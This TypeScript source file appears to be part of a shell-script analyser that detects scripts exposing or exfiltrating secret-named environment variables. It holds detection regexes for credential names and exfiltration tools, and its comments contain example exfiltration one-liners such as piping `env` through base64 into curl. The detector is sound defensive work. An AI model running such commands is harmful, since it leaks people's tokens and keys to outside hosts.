import {
  forEachChild,
  type Command,
  type CommandNode,
  type ParsedScript,
  type SyntaxNode,
  type Word,
} from '../shell/tree.ts'
import type { ShellState } from './shell-state.ts'

/** By their names, variables that hold what is kept from others. */
const secretName =
  /^\w*(?:SECRET|PASSWORD|PASSWD|TOKEN|CREDENTIALS?|(?:API|ACCESS|PRIVATE|SECRET|SIGNING|ENCRYPTION)_?KEY)$/

/** Whether a script is worth a look: it names such a variable, or prints them all. */
function mayExpose(source: string): boolean {
  if (source.includes('$') && /SECRET|PASSW|TOKEN|CREDENTIAL|KEY/.test(source)) return true
  return source.includes('env') || (source.includes('|') && /\b(?:set|export|declare)\b/.test(source))
}

/** What is searched for among all variables by who wants those. */
const seeksSecrets =
  /secret|token|passw|credential|(?:api|access|private|aws|gcp|azure|openai|anthropic)[_.]?\*?(?:key|access)|^_?key$|\bkey\b/i

/** Filters that print what they read in another form. */
const encoders = /^(?:base64|base32|xxd|od|hexdump|rev|cat|tr|tee)$/

const fetchers = /^(?:curl|wget)$/
const nameLookups = /^(?:dig|nslookup|host|drill|ping6?)$/

/** Options by which one says who one is, as the server wants it. */
const signsIn = /^(?:-[HubAeow]|--(?:header|user|proxy-user|oauth2-bearer|cookie|user-agent|password))(?:=|$)/
const sendsData = /^(?:-[dF]|--(?:data\S*|form\S*|json|post-data|body-data))(?:=|$)/
const local = /(?:\/\/|^|\s|["'])(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\])\b/

/**
 * Notes what a script shows to whoever reads its output, or sends away, of variables that by their names are secret and were not set
 * by itself: `echo $API_KEY`, `env | grep -i token`, `curl https://x/?k=$API_KEY`. To sign in with one is what it is for.
 */
export function noteExposed(source: string, script: ParsedScript, shell: ShellState): void {
  if (!mayExpose(source) || !shell.effects.spend(source.length >> 6)) return
  const taken = new Set<string>()
  // What was put into one variable may be put into the next.
  for (let size = -1; size < taken.size;) {
    size = taken.size
    take(script, { ...shell, taken })
  }
  look(script, { ...shell, taken })
}

/** A shell, and the variables into which the script puts what is secret. */
interface Looked extends ShellState {
  taken: Set<string>
}

/** Notes which variables are given the value of one that is secret. */
function take(node: SyntaxNode, shell: Looked): void {
  if (!shell.effects.spend()) return
  if (node.type !== 'Assignment') return forEachChild(node, (child) => take(child, shell))
  const { value } = node
  if (value.type === 'Word' && (holdsSecret(value, shell) || printsSecret(value, shell)))
    shell.taken.add(node.name)
}

/** `$(printf %s "$TOKEN" | base64)`: what is shown there is the value. */
function printsSecret({ parts }: Word, shell: Looked): boolean {
  return (parts ?? []).some((part) => {
    const inner = part.type === 'DoubleQuoted' ? part.parts : [part]
    return inner.some((one) => {
      const command = one.type === 'CommandExpansion' ? one.script?.commands[0]?.command : undefined
      if (command?.type === 'Command') return shows([command], shell)
      return command?.type === 'Pipeline' && shows(command.commands, shell)
    })
  })
}

function look(node: SyntaxNode, shell: Looked): void {
  if (!shell.effects.spend() || node.type === 'Word' || node.type === 'Function') return
  if (node.type === 'Pipeline') {
    for (const command of node.commands) lookAtPart(command, shell)
    if (sendsAll(node.commands)) shell.effects.danger('sends all variables to another machine')
    if (shows(node.commands, shell)) shell.effects.danger('shows a secret')
  } else if (node.type === 'Command') {
    lookAtPart(node, shell)
    if (shows([node], shell)) shell.effects.danger('shows a secret')
  } else forEachChild(node, (child) => look(child, shell))
}

/** A part of a pipe: what it prints flows on. */
function lookAtPart(node: CommandNode, shell: Looked): void {
  if (node.type === 'Command' && sends(node, shell)) shell.effects.danger('sends a secret to another machine')
}

function wordsOf({ suffix }: Command): readonly Word[] {
  return suffix.filter((one): one is Word => one.type === 'Word')
}

function writesAway({ redirects }: Command): boolean {
  return redirects.some((one) => one.type === 'Redirect' && /^(?:&?>|>)/.test(one.operator))
}

function shows(commands: readonly CommandNode[], shell: Looked): boolean {
  const [first] = commands
  const last = commands.at(-1)
  if (first?.type !== 'Command' || last?.type !== 'Command' || writesAway(last)) return false
  const words = wordsOf(last)
  if (encoders.test(last.name?.value ?? '')) return commands.length > 1 && shows([first], shell)
  switch (last.name?.value ?? '') {
    case 'echo':
    case 'printf':
      return words.some((word) => holdsSecret(word, shell))
    case 'printenv':
      return words.some((word) => isSecret(word.value, shell))
    case 'grep':
    case 'egrep':
    case 'rg':
      return (
        printsAll(first) &&
        !words.some((word) => /^-\w*[cqlvL]/.test(word.value)) &&
        words.some((word) => !word.value.startsWith('-') && seeksSecrets.test(word.value))
      )
    default:
      return false
  }
}

/** Whether all variables flow to a program that puts them into an address: `env | base64 | xargs -I{} curl x/{}`. */
function sendsAll([first, ...rest]: readonly CommandNode[]): boolean {
  return (
    first?.type === 'Command' &&
    printsAll(first) &&
    rest.some(
      (one) =>
        one.type === 'Command' &&
        /^(?:xargs|parallel)$/.test(one.name?.value ?? '') &&
        wordsOf(one).some((word) => fetchers.test(word.value) || nameLookups.test(word.value)),
    )
  )
}

/** Whether a command prints every variable. */
function printsAll(command: Command): boolean {
  const [first, ...more] = wordsOf(command)
  switch (command.name?.value ?? '') {
    case 'env':
    case 'printenv':
    case 'set':
      return first === undefined
    case 'export':
    case 'declare':
      return (first === undefined || /^-[px]+$/.test(first.value)) && more.length === 0
    default:
      return false
  }
}

function sends(command: Command, shell: Looked): boolean {
  const name = command.name?.value ?? ''
  const words = wordsOf(command)
  if (nameLookups.test(name)) return words.some((word) => holdsSecret(word, shell))
  if (!fetchers.test(name) || words.some(({ text }) => local.test(text))) return false
  return words.some((word, at) => {
    const before = words[at - 1]?.value ?? ''
    if (signsIn.test(before) || signsIn.test(word.value) || /:\/\/[^/\s]*@/.test(word.text)) return false
    const leaves = sendsData.test(before) || sendsData.test(word.value) || /:\/\/|^\w[\w-]*\./.test(word.text)
    return leaves && holdsSecret(word, shell)
  })
}

/** Whether a word becomes the value of such a variable, or of all. */
function holdsSecret({ parts }: Word, shell: Looked): boolean {
  return (parts ?? []).some((part) =>
    part.type === 'DoubleQuoted'
      ? part.parts.some((child) => isExposed(child, shell))
      : isExposed(part, shell),
  )
}

function isExposed(part: SyntaxNode, shell: Looked): boolean {
  if (part.type === 'SimpleExpansion') return isSecret(part.text.slice(1), shell)
  if (part.type === 'ParameterExpansion')
    return part.prefix === undefined && part.operation === undefined && isSecret(part.parameter, shell)
  if (part.type !== 'CommandExpansion') return false
  const command = part.script?.commands[0]?.command
  const first = command?.type === 'Pipeline' ? command.commands[0] : command
  return first?.type === 'Command' && printsAll(first)
}

function isSecret(name: string, { variables, taken }: Looked): boolean {
  return taken.has(name) || (secretName.test(name) && !variables.has(name))
}
